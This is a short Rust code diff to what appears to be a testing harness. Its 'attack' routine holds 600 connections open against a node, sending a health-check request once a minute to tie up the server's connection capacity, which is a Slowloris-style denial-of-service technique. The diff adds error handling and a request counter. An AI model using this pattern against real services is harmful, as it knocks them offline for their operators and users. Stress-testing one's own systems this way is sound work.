@@ -16,13 +16,14 @@ const CONNECTIONS: usize = 600;
 /// Between two requests of a connection.
 const PAUSE: Duration = Duration::from_secs(60);
 
-/// Attacks until it is dropped.
-pub async fn attack(target: Arc<Target>) {
+/// Attacks until it is dropped; counts requests that were sent.
+pub async fn attack(target: Arc<Target>) -> anyhow::Result<()> {
     let one = |_| {
         let target = target.clone();
         async move { forever(async || hold(&target).await).await }
     };
     together(CONNECTIONS, one).await;
+    Ok(())
 }
 
 /// Holds one connection until the node ends it.
@@ -30,6 +31,7 @@ async fn hold(target: &Target) -> anyhow::Result<()> {
     let mut stream = dial(SOURCE, target.http).await?;
     loop {
         stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: node\r\n\r\n").await?;
+        target.count();
         if timeout(PAUSE, ended(&mut stream)).await.is_ok() {
             bail!("the node has ended the connection");
         }
